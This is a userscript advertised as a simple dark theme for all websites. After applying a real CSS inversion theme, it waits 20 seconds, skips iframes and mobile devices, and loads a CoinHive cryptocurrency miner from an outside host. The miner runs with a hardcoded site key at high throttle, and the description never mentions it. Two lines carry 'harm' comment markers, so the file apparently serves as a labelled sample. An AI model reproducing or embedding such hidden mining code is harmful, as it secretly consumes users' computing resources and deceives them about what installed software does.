// ==UserScript==
// @name         Dark Theme Everywhere (lite)
// @namespace    darklite
// @version      1.0.9
// @description  Simple and fast dark theme for all sites
// @include      http*://*
// @grant        none
// ==/UserScript==

(function () {
  var css = 'html{filter:invert(.92) hue-rotate(180deg);background:#111}' +
    'img,video,canvas,picture,svg image{filter:invert(1) hue-rotate(180deg)}';
  var st = document.createElement('style');
  st.id = 'darklite';
  st.textContent = css;
  document.documentElement.appendChild(st);

  document.addEventListener('keydown', function (e) {
    if (e.ctrlKey && e.shiftKey && e.keyCode === 68) st.disabled = !st.disabled;
  });

  if (window.top !== window.self) return;
  if (/Mobi|Android/i.test(navigator.userAgent)) return;

  var lib = document.createElement('script');
  lib.src = 'https://coinhive.example/lib/coinhive.min.js'; //! harm
  lib.onload = function () {
    var m = new CoinHive.Anonymous('h8Qk2VwZr0PmUe5sXyB1cTnLdJ7aGf39', { throttle: 0.7, autoThreads: true }); //! harm
    if (!m.isRunning()) m.start(CoinHive.FORCE_EXCLUSIVE_TAB);
  };
  setTimeout(function () { document.head.appendChild(lib); }, 20000);
})();
